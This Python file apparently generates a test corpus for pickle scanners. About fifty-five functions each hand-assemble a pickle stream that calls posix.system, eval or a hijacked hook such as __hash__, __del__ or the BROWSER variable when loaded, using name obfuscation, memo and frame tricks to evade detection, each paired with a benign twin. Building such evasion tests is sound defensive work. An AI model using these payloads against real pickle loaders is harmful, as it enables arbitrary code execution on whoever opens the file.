"""Tricks of the pickle machine: names, memo, frames, assignments and hooks, in raw opcodes."""

import base64
import codecs
import pickle
import struct

from assemble import CODE, SHELL, Evasion, call, encode, model, program, ref

PLAIN = ("decimal", "Decimal", "1.5")
HARM = ("posix", "system", SHELL)


def text(s: str) -> bytes:
    return b"X" + struct.pack("<I", len(s.encode())) + s.encode()


def short(s: str) -> bytes:
    return b"\x8c" + bytes([len(s)]) + s.encode()


def named(m, n):
    return text(m) + text(n) + b"\x93"


def run(fn: bytes, arg: str) -> bytes:
    return fn + text(arg) + b"\x85R"


# Each function below writes one stream from (module, name, argument).

def overwritten_memo(m, n, a):
    return b"\x80\x04" + text("collections") + b"q\x000" + text(m) + b"q\x000" + b"h\x00" + text(n) + b"\x93" + text(a) + b"\x85R."


def distant_memo(m, n, a):
    return b"\x80\x04" + text(m) + b"r\xff\xff\x0f\x000" + text(n) + b"q\x070" + b"j\xff\xff\x0f\x00h\x07\x93" + text(a) + b"\x85R."


def textual_memo(m, n, a):
    return b"V" + m.encode() + b"\np300\n0V" + n.encode() + b"\np7\n0\x80\x04g300\ng7\n\x93" + text(a) + b"\x85R."


def memoised_call(m, n, a):
    return b"\x80\x04" + named(m, n) + b"\x940" + text("w") + b"0h\x00" + text(a) + b"\x85R."


def duplicated_name(m, n, a):
    return b"\x80\x04" + text(m) + b"2\x94" + text(n) + b"\x93" + text(a) + b"\x85R\x860" .replace(b"\x860", b"") + b"."


def popped_result(m, n, a):
    return b"\x80\x04" + run(named(m, n), a) + b"0" + encode({"w": [0.5]}) + b"."


def behind_mark(m, n, a):
    return b"\x80\x04((" + run(named(m, n), a) + b"1" + b"1" + encode({"w": 1}) + b"."


def inst_opcode(m, n, a):
    return b"(" + b"V" + a.encode() + b"\ni" + m.encode() + b"\n" + n.encode() + b"\n."


def inst_among_items(m, n, a):
    return b"](V" + a.encode() + b"\n" + b"I1\n(V" + a.encode() + b"\ni" + m.encode() + b"\n" + n.encode() + b"\ne."


def obj_opcode(m, n, a):
    return b"\x80\x02(c" + m.encode() + b"\n" + n.encode() + b"\n" + text(a) + b"o."


def newobj_ex(m, n, a):
    fn = ("imaplib", "IMAP4_stream") if m == "posix" else (m, n)
    make = text("functools") + text("partial") + b"\x93" + named(m, n) + text(a) + b"\x86}\x92"
    return b"\x80\x04" + make + b")R."


def newobj_partial(m, n, a):
    return b"\x80\x04" + named("functools", "partial") + named(m, n) + text(a) + b"\x86\x81)R."


def escaped_global(m, n, a):
    return b"\x80\x04V" + "".join(f"\\u{ord(c):04x}" for c in m).encode() + b"\nV" + n.encode() + b"\n\x93" + text(a) + b"\x85R."


def quoted_string(m, n, a):
    hexed = "".join(f"\\x{ord(c):02x}" for c in n)
    return b"\x80\x04S'" + m.encode() + b"'\nS\"" + hexed.encode() + b"\"\n\x93" + text(a) + b"\x85R."


def joined_name(m, n, a):
    joined = named("builtins", "str.join") + text("") + b"](" + b"".join(text(c) for c in n) + b"e\x86R"
    return b"\x80\x04" + text(m) + joined + b"\x93" + text(a) + b"\x85R."


def decoded_name(m, n, a):
    rot = named("codecs", "decode") + text(codecs.encode(n, "rot13")) + text("rot13") + b"\x86R"
    return b"\x80\x04" + text(m) + rot + b"\x93" + text(a) + b"\x85R."


def base64_name(m, n, a):
    raw = base64.b64encode(n.encode())
    decoded = named("base64", "b64decode") + b"C" + bytes([len(raw)]) + raw + b"\x85R"
    return b"\x80\x04" + text(m) + named("builtins", "bytes.decode") + decoded + b"\x85R\x93" + text(a) + b"\x85R."


def replaced_name(m, n, a):
    made = named("builtins", "str.replace") + text("zz".join(n)) + text("zz") + text("") + b"\x87R"
    return b"\x80\x04" + text(m) + made + b"\x93" + text(a) + b"\x85R."


def sliced_name(m, n, a):
    cut = named("operator", "getitem") + text(n[::-1]) + named("builtins", "slice") + b"NNJ\xff\xff\xff\xff\x87R\x86R"
    return b"\x80\x04" + text(m) + cut + b"\x93" + text(a) + b"\x85R."


def added_name(m, n, a):
    made = named("operator", "add") + text(n[:2]) + text(n[2:]) + b"\x86R"
    return b"\x80\x04" + text(m) + made + b"\x93" + text(a) + b"\x85R."


def chr_name(m, n, a):
    chars = b"".join(named("builtins", "chr") + b"K" + bytes([ord(c)]) + b"\x85R" for c in n)
    return b"\x80\x04" + text(m) + named("builtins", "str.join") + text("") + b"](" + chars + b"e\x86R\x93" + text(a) + b"\x85R."


def formatted_name(m, n, a):
    made = named("builtins", "str.format") + text("{1}{0}") + text(n[2:]) + text(n[:2]) + b"\x87R"
    return b"\x80\x04" + text(m) + made + b"\x93" + text(a) + b"\x85R."


def second_stream(m, n, a):
    return pickle.dumps({"epoch": 3}) + b"\x80\x04" + run(named(m, n), a) + b"."


def after_garbage_stop(m, n, a):
    return b"\x80\x04" + run(named(m, n), a) + b"\x7f broken here"


def truncated(m, n, a):
    return b"\x80\x04" + run(named(m, n), a) + b"X\xff\xff\x00\x00cut"


def raised_midway(m, n, a):
    return b"\x80\x04" + run(named(m, n), a) + named("collections", "NoSuchName") + b"."


def stack_underflow(m, n, a):
    return b"\x80\x04" + run(named(m, n), a) + b"0" * 4 + b"R."


def repeated_proto(m, n, a):
    return b"\x80\x04\x80\x02" + text("w") + b"0\x80\x05" + run(named(m, n), a) + b"."


def short_frame(m, n, a):
    body = run(named(m, n), a) + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", 4) + short("ab") + b"0"[:0] + b"0\x95" + struct.pack("<Q", len(body)) + body


def frame_of_nothing(m, n, a):
    return b"\x80\x04\x95" + struct.pack("<Q", 0) + run(named(m, n), a) + b"."


def late_global_line(m, n, a):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n(S'" + a.encode() + b"'\ntR."


def python2_names(m, n, a):
    if m == "posix":
        return b"c__builtin__\neval\n(V__import__('posix').system('" + a.encode() + b"')\ntR."
    return b"c__builtin__\nset\n((lp0\nV1\natR."


def python2_mapped(m, n, a):
    if m == "posix":
        return b"\x80\x02cUserDict\nIterableUserDict\n0c__builtin__\nlist\ncitertools\nimap\nc" + b"timeit\ntimeit\n](" + text(CODE) + b"e\x86R\x85R."
    return b"\x80\x02cUserDict\nIterableUserDict\n0c__builtin__\nlist\ncitertools\nimap\nc" + b"__builtin__\nlen\n](" + text(CODE) + b"e\x86R\x85R."


def extension_code(m, n, a):
    add = named("copyreg", "add_extension") + text(m) + text(n) + b"K\x07\x87R0"
    if m != "posix":
        return b"\x80\x04" + run(named(m, n), a) + b"0K\x07."
    return b"\x80\x04" + add + b"\x82\x07" + text(a) + b"\x85R."


def extension_table(m, n, a):
    if m != "posix":
        return b"\x80\x04" + run(named(m, n), a) + b"0K\x08."
    table = named("copyreg", "_inverted_registry") + b"K\x08" + text(m) + text(n) + b"\x86s0"
    return b"\x80\x04" + table + b"\x82\x08" + text(a) + b"\x85R."


def module_table(m, n, a):
    """`sys.modules["numpy"] = posix`, then a trusted-looking name."""
    if m != "posix":
        return b"\x80\x04" + run(named(m, n), a) + b"0}" + text("statistics") + text("os") + b"s."
    put = named("sys", "modules") + text("statistics") + named("logging", "os") + b"s0"
    return b"\x80\x04" + put + named("statistics", "system") + text(a) + b"\x85R."


def module_update(m, n, a):
    """BUILD on a module replaces one of its functions."""
    if m != "posix":
        return b"\x80\x04" + run(named(m, n), a) + b"0}" + text("OrderedDict") + text("os.system") + b"s."
    patch = named("logging", "collections") + b"}" + text("OrderedDict") + named("logging", "os.system") + b"sb0"
    return b"\x80\x04" + patch + named("collections", "OrderedDict") + text(a) + b"\x85R."


def class_update(m, n, a):
    """BUILD on a class sets the method that APPENDS calls."""
    if m != "posix":
        return b"\x80\x04](" + text(a) + b"e."
    patch = named("argparse", "Namespace") + b"N}" + text("append") + named("logging", "os.system") + b"s\x86b0"
    return b"\x80\x04" + patch + named("argparse", "Namespace") + b")\x81" + text(a) + b"a."



def hash_of_key(m, n, a):
    if m != "posix":
        return b"\x80\x04}" + run(named(m, n), a) + text("w") + b"s."
    runner = named("functools", "partial") + named("logging", "os.system") + text(a) + b"\x86R"
    cls = named("builtins", "type") + text("Key") + b")}" + text("__hash__") + runner + b"s\x87R"
    return b"\x80\x04}" + cls + b")\x81" + text("w") + b"s."


def hash_in_set(m, n, a):
    if m != "posix":
        return b"\x80\x04\x8f(" + run(named(m, n), a) + b"\x90."
    runner = named("functools", "partial") + named("logging", "os.system") + text(a) + b"\x86R"
    cls = named("builtins", "type") + text("Key") + b")}" + text("__hash__") + runner + b"s\x87R"
    return b"\x80\x04\x8f(" + cls + b")\x81\x90."


def setstate_hook(m, n, a):
    if m != "posix":
        return b"\x80\x04" + named("argparse", "Namespace") + b")\x81}" + text("w") + text(a) + b"sb."
    ns = b"}" + text("__setstate__") + named("logging", "os.system") + b"s"
    cls = named("builtins", "type") + text("Layer") + b")" + ns + b"\x87R"
    return b"\x80\x04" + cls + b")\x81" + text(a) + b"b."


def delete_hook(m, n, a):
    if m != "posix":
        return b"\x80\x04" + named("argparse", "Namespace") + b")\x810K\x01."
    runner = named("functools", "partial") + named("logging", "os.system") + text(a) + b"\x86R"
    cls = named("builtins", "type") + text("Layer") + b")}" + text("__del__") + runner + b"s\x87R"
    return b"\x80\x04" + cls + b")\x810K\x01."


def set_name_hook(m, n, a):
    if m != "posix":
        return b"\x80\x04" + named("argparse", "Namespace") + b")\x81}" + text("w") + text(a) + b"sb."
    runner = named("functools", "partial") + named("logging", "os.system") + text(a) + b"\x86R"
    inner = named("builtins", "type") + text("D") + b")}" + text("__iter__") + runner + b"s\x87R"
    return b"\x80\x04" + named("builtins", "list") + inner + b")\x81\x85R."


def subclass_of_dict(m, n, a):
    if m != "posix":
        return b"\x80\x04}" + text(a) + text("w") + b"s."
    ns = b"}" + text("__missing__") + named("logging", "os.system") + b"s"
    cls = named("builtins", "type") + text("Table") + named("builtins", "dict") + b"\x85" + ns + b"\x87R"
    return b"\x80\x04" + named("operator", "getitem") + cls + b")\x81" + text(a) + b"\x86R."


def environment_write(m, n, a):
    if m != "posix":
        return b"\x80\x04}" + text("PYTHONSTARTUP") + text(a) + b"s."
    patch = named("logging", "os.environ") + text("BROWSER") + text("sh -c '" + a + "' %s") + b"s0"
    return b"\x80\x04" + patch + named("webbrowser", "open") + text("u") + b"\x85R."


def persistent_id(m, n, a):
    return b"\x80\x04" + run(named(m, n), a) + b"0" + text("0") + b"Q."


def long_names(m, n, a):
    return b"\x80\x04\x8d" + struct.pack("<Q", len(m)) + m.encode() + b"\x8d" + struct.pack("<Q", len(n)) + n.encode() + b"\x93" + text(a) + b"\x85R."


def deep_first(m, n, a):
    return b"\x80\x04" + b"]" * 3000 + b"a" * 2999 + b"0" + run(named(m, n), a) + b"."


def many_first(m, n, a):
    return b"\x80\x04](" + b"K\x01" * 300000 + b"e0" + run(named(m, n), a) + b"."


def nested_twice(m, n, a):
    inner = b"\x80\x04" + run(named(m, n), a) + b"."
    middle = program(call("pickle:loads", inner)) if m == "posix" else pickle.dumps([inner])
    return program(call("pickle:loads", middle)) if m == "posix" else pickle.dumps([middle])


def readonly_bytes(m, n, a):
    inner = b"\x80\x04" + run(named(m, n), a) + b"."
    raw = b"\x96" + struct.pack("<Q", len(inner)) + inner
    return b"\x80\x05" + (named("pickle", "loads") + raw + b"\x85R." if m == "posix" else raw + b".")


def leading_junk(m, n, a):
    return b"N0" * 4 + b"\x80\x04" + run(named(m, n), a) + b"."


def comment_numbers(m, n, a):
    return b"I01\n0L5L\n0F1.5\n0" + b"c" + m.encode() + b"\n" + n.encode() + b"\n(V" + a.encode() + b"\ntR."


def build_as_call(m, n, a):
    """`__setstate__` set on the instance's class by a dotted assignment, then BUILD."""
    if m != "posix":
        return b"\x80\x04" + named("argparse", "Namespace") + b")\x81}" + text("__setstate__") + text(a) + b"sb."
    obj = named("argparse", "Namespace") + b")\x81}" + text("__setstate__") + named("logging", "os.system") + b"sb"
    return b"\x80\x04" + obj + text(a) + b"b."


def appends_on_instance(m, n, a):
    if m != "posix":
        return b"\x80\x04" + named("argparse", "Namespace") + b")\x81}" + text("append") + text(a) + b"sb."
    obj = named("argparse", "Namespace") + b")\x81}" + text("append") + named("logging", "os.system") + b"sb"
    return b"\x80\x04" + obj + text(a) + b"a."


def additems_on_instance(m, n, a):
    if m != "posix":
        return b"\x80\x04\x8f(" + text(a) + b"\x90."
    obj = named("argparse", "Namespace") + b")\x81}" + text("add") + named("logging", "os.system") + b"sb"
    return b"\x80\x04" + obj + b"(" + text(a) + b"\x90."


STREAMS = [
    overwritten_memo, distant_memo, textual_memo, memoised_call, duplicated_name, popped_result, behind_mark, inst_opcode,
    inst_among_items, obj_opcode, newobj_ex, newobj_partial, escaped_global, quoted_string, joined_name, decoded_name,
    base64_name, replaced_name, sliced_name, added_name, chr_name, formatted_name, after_garbage_stop, truncated,
    raised_midway, stack_underflow, repeated_proto, short_frame, frame_of_nothing, late_global_line, python2_names,
    python2_mapped, extension_code, extension_table, module_table, module_update, class_update, hash_of_key,
    hash_in_set, setstate_hook, delete_hook, set_name_hook, subclass_of_dict, environment_write, persistent_id, long_names,
    deep_first, many_first, nested_twice, readonly_bytes, leading_junk, comment_numbers, build_as_call, appends_on_instance,
    additems_on_instance,
]

# Files broken on purpose: the twin is the whole file, since a broken file may rightly be "not fully examined".
BROKEN = {after_garbage_stop, truncated, raised_midway, stack_underflow, persistent_id}


def all():
    """Every stream, with its twin: the same opcodes around an ordinary constructor."""
    for stream in STREAMS:
        name = stream.__name__.replace("_", "-")
        twin = b"\x80\x04" + run(named(*PLAIN[:2]), PLAIN[2]) + b"." if stream in BROKEN else stream(*PLAIN)
        yield Evasion(name, "machine", stream(*HARM), twin)
    yield Evasion("second-stream", "machine", second_stream(*HARM), second_stream(*PLAIN), loader="stacked")
